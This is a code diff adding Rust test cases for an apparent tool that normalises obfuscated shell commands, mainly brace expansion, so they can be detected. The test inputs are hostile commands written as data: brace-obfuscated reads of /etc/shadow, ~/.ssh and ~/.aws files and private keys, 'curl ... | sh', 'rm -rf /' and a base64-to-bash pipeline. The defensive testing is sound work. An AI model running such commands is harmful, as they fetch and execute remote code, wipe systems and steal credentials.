@@ -57,6 +57,9 @@ fn spellings_of_one_command_become_it() {
     is("{curl,-L,https://a.example/i,|,sh}", "curl -L https://a.example/i | sh");
     is("<code>D=/\nrm -rf $D", "rm -rf /");
     is("cat /etc/{passwd,shadow}", "/etc/passwd /etc/shadow");
+    is("cat /etc/{passwd,shadow}.bak", "/etc/passwd.bak /etc/shadow.bak");
+    is("cat ~/.{ssh,aws}/x", "cat ~/.ssh/x ~/.aws/x");
+    is("cat ~/.{ssh,gnupg}/id_{rsa,dsa}; x", "cat ~/.ssh/id_rsa ~/.ssh/id_dsa ~/.gnupg/id_rsa ~/.gnupg/id_dsa; x");
     is("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "echo aGk=|base64 -d|bash -i");
 }
 
@@ -121,6 +124,14 @@ fn what_nobody_uses_takes_no_room_from_a_variable_that_is_used() {
     is("cmd=rm\n$c\\\nmd -rf /", "rm -rf /");
 }
 
+#[test]
+fn lists_without_number_make_few_words() {
+    let text = ["cat /", &"{a,b,c,d}".repeat(40)].concat();
+    let made = plain(text.as_bytes()).unwrap();
+    assert!(made.len() <= text.len() * super::MAX_GROWTH + super::MAX_VALUE);
+    assert!(made.starts_with(b"cat /aaa"));
+}
+
 proptest::proptest! {
     #[test]
     fn any_bytes_are_taken_and_the_answer_is_bounded(bytes in "[a={}$'\"\\\\,;x/ \n()`IFS9@^-]{0,300}") {
@@ -146,7 +157,7 @@ fn spelt(line: &[u8]) -> bool {
                 within || (begins && ends && word.is_some_and(|word| !word.is_empty() && simple(word)))
             }
             b'$' => b"\"'(`@*{_9".contains(&next) || next.is_ascii_alphabetic(),
-            b'{' => (!in_word(before) && before != b'$' && in_word(next)) || before == b'/',
+            b'{' => (!in_word(before) && before != b'$' && in_word(next)) || matches!(before, b'/' | b'.'),
             b'^' => before.is_ascii_alphabetic() && next.is_ascii_alphabetic(),
             _ => false,
         }
